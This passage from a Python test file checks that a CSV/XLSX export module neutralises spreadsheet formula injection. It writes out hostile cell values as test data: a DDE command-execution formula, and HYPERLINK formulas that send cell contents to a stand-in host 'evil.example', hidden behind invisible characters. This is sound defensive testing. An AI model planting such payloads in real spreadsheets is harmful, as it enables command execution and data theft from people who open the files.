           "email": "\tb", "organization": "\rc", "title": "a=b", "specialties": ["=x", "y"], "province": True,
           "term_start": date(2024, 1, 31), "term_end": datetime(2024, 1, 31, 8, 0)}
    data = tabular.write_csv(list(row), [row], "zh")
    values = list(csv.reader(io.StringIO(data[3:].decode(), newline="")))[1]
    assert values == ["'=cmd|' /C calc'!A0", "'+1", "-5", "'-x", "'@a", "'\tb", "'\rc", "a=b", "'=x；y", "是",
                      "2024-01-31", "2024-01-31 08:00:00"]
    # ... and read_table takes the apostrophes off again, so an export can be re-imported as it is.
    header = ",".join(ZH_HEADER).encode()
    back = read_table(b"\xef\xbb\xbf" + header + b"\r\n'=1+1,'-2\r\n", "x.csv").rows[0].values
    assert back["name"] == "=1+1" and back["gender"] == "-2"


# Every character that can hide in front of a formula: C0 controls, DEL, C1 controls, zero-width space/non-joiner/
# joiner, word joiner, BOM, soft hyphen, LRM/RLM/ALM, bidi embeddings/overrides/isolates, NBSP, ideographic space,
# the other Unicode spaces, and plain space, tab, LF and CR.
HIDERS = ([chr(c) for c in range(0x00, 0x20)] + ["\x7f"] + [chr(c) for c in range(0x80, 0xA0)]
          + ["\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u200e", "\u200f", "\u061c",
             "\u180e", "\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068",
             "\u2069", "\u00a0", "\u3000", "\u2002", "\u2003", "\u2009", "\u202f", "\u205f", " "])
# All but the visible white space (kept: it may be meant) are removed from exported text.
STRIPPED = [h for h in HIDERS if h not in "\t\n\r \u00a0\u3000\u2002\u2003\u2009\u202f\u205f"]
TRIGGERS = ["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"]
PAYLOADS = [h + t + 'HYPERLINK("http://evil.example/?"&A2,"x")' for h in HIDERS for t in TRIGGERS] + [
    h1 + h2 + "=1+1" for h1 in ("\u0001", "\u200b", "\ufeff", "\u00a0") for h2 in ("\u202e", "\u3000", "\x7f")]


def test_exports_neutralise_formulas_behind_every_control_and_invisible_character():
    # Strip first, neutralise last: "\u0001=HYPERLINK(...)" used to be neutralised (it did not start with "=")
    # and then lose its "\u0001" in XLSX, leaving a live formula next to unmasked ID numbers.
    rows = [{"name": p, "city": p, "organization": p, "specialties": [p, "y"]} for p in PAYLOADS]
    keys = ["name", "city", "organization", "specialties"]
    read = list(csv.reader(io.StringIO(tabular.write_csv(keys, rows, "zh")[3:].decode(), newline="")))[1:]
    ws = load_workbook(io.BytesIO(tabular.write_xlsx(keys, rows, "zh"))).active
    assert len(read) == len(PAYLOADS) == ws.max_row - 1
    for i, payload in enumerate(PAYLOADS):
        for j in range(len(keys)):
            cell = ws.cell(i + 2, j + 1)
            for where, text in (("csv", read[i][j]), ("xlsx", cell.value)):
                assert isinstance(text, str) and text.startswith("'"), (where, payload, text)
                assert not any(ch in text for ch in STRIPPED), (where, payload, text)
                assert "HYPERLINK(" in text or "=1+1" in text  # the content itself is kept, as text
            assert cell.data_type == "s", (payload, cell.data_type)  # written as text, never parsed as a formula
    # Harmless text keeps its characters (line breaks inside a cell stay) and gets no apostrophe.
    assert tabular.neutralize_cell("南京\n江宁") == "南京\n江宁" and tabular.neutralize_cell("a=1") == "a=1"
    # ... and an export still reads back as what was stored.
    header = ",".join(ZH_HEADER).encode()
    back = read_table(b"\xef\xbb\xbf" + header + b"\r\n'\xc2\xa0=1+1,' -2\r\n", "x.csv").rows[0].values
    assert back["name"] == "=1+1" and back["gender"] == "-2"


def test_write_csv_accepts_rows_and_extra_headers():
    rows = [tabular.Row(2, {"name": "张三"}), {"name": "李四", "id": 7}]
    data = tabular.write_csv(["id", "name"], rows, "en", headers={"id": ("编号", "No.")})
    assert data[3:].decode().splitlines() == ["No.,Name", ",张三", "7,李四"]


@pytest.mark.parametrize(("value", "expected"), [
    ("=1", "'=1"), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"), ("\t", "'\t"), ("\rx", "'\rx"),
    ("a=1", "a=1"), ("", ""), (-1, -1), (1.5, 1.5), (None, None), (date(2024, 1, 1), date(2024, 1, 1)),
])
def test_neutralize_cell(value, expected):
    assert tabular.neutralize_cell(value) == expected


# -- template ----------------------------------------------------------------------------------------------------

NORMALISERS = {
    "gender": normalize.normalize_gender, "id_number": partial(normalize.normalize_id_number, today=date(2026, 1, 1)),
    "mobile": normalize.normalize_mobile, "email": normalize.normalize_email,
    "organization_type": normalize.normalize_organization_type, "title": normalize.normalize_title_rank,
    "province": normalize.normalize_province, "recommended_by": normalize.normalize_recommended_by,
    "term_start": normalize.parse_date, "term_end": normalize.parse_date, "status": normalize.normalize_status,
    "language": normalize.normalize_language, "birth_year": normalize.parse_year,
}


@pytest.mark.parametrize("lang", ["zh", "en"])
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_template_reads_back_and_its_example_is_valid(lang, fmt):
    data = tabular.template(lang, fmt)
    table = read_table(data, f"template.{fmt}")
    assert table.columns == KEYS and len(table.rows) == 1
    example = table.rows[0].values
    for key, fn in NORMALISERS.items():
        fn(example[key])  # raises if the example would not import
    info = normalize.validate_id_number(example["id_number"], today=date(2026, 1, 1))
    assert str(info.birth_date.year) == example["birth_year"] and info.gender == "F"
    assert normalize.normalize_gender(example["gender"]) == "F"
    assert normalize.province_name(info.province_code, lang).startswith(example["province"])
    if fmt == "csv":
        header = data[3:].decode().splitlines()[0].split(",")
    else:
        header = [c.value for c in load_workbook(io.BytesIO(data)).worksheets[0][1]]
    names = ZH_HEADER if lang == "zh" else EN_HEADER
    assert header == [f"{h}*" if k in REQUIRED_COLUMNS else h for h, k in zip(names, KEYS, strict=True)]


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_xlsx_template_has_instructions_text_columns_and_dropdowns(lang):
    wb = load_workbook(io.BytesIO(tabular.template(lang, "xlsx")))
    data, info = wb.worksheets
    assert data.title == ("专家" if lang == "zh" else "Experts")
    assert info.title == ("说明" if lang == "zh" else "Instructions")
    assert data.freeze_panes == "A2"
    id_col = get_column_letter(KEYS.index("id_number") + 1)
    assert data.column_dimensions[id_col].number_format == "@" and data[f"{id_col}2"].number_format == "@"
    listed = {str(dv.sqref).split(":")[0]: dv.formula1 for dv in data.data_validations.dataValidation}
    gender_col = get_column_letter(KEYS.index("gender") + 1)
    assert listed[f"{gender_col}2"] == ('"男,女"' if lang == "zh" else '"M,F"')
    assert len(listed) == 6 and all(len(f) <= 255 for f in listed.values())  # Excel's limit for a list
    rows = list(info.iter_rows(values_only=True))
    described = {r[0]: r for r in rows[1:len(COLUMNS) + 1]}
    names = ZH_HEADER if lang == "zh" else EN_HEADER
    assert list(described) == names
    yes = "是" if lang == "zh" else "yes"
    assert [described[c.zh if lang == "zh" else c.en][1] == yes for c in COLUMNS] == [c.required for c in COLUMNS]
    assert all(r[2] for r in described.values())


def test_template_rejects_unknown_format():
    with pytest.raises(ValueError):
        tabular.template("zh", "ods")


# -- size ----------------------------------------------------------------------------------------------------

@pytest.mark.slow
@pytest.mark.parametrize("write, name", [
    (lambda rows: tabular.write_csv(KEYS, rows, "zh"), "x.csv"),
    (lambda rows: tabular.write_xlsx(KEYS, rows, "zh"), "x.xlsx"),  # our export: inline strings
    (lambda rows: excel_like_xlsx([("Sheet1", [ZH_HEADER] + [[r[k] for k in KEYS] for r in rows])]), "x.xlsx"),
], ids=["csv", "our-xlsx", "excel-xlsx"])  # one test per format, so parallel workers can share them
def test_ten_thousand_rows_parse_with_their_spreadsheet_row_numbers(write, name):
    # How fast is benchmarks/bench_pool.py's business (10,000 rows in <= 10 s end to end, figures in README);
    # a timed assertion here only failed on a loaded machine.
    table = read_table(write([expert(i) for i in range(10_000)]), name)
    assert len(table.rows) == 10_000 and table.rows[-1].number == 10_001
    assert table.rows[-1].values["term_end"] in (date(2026, 12, 31), "2026-12-31")
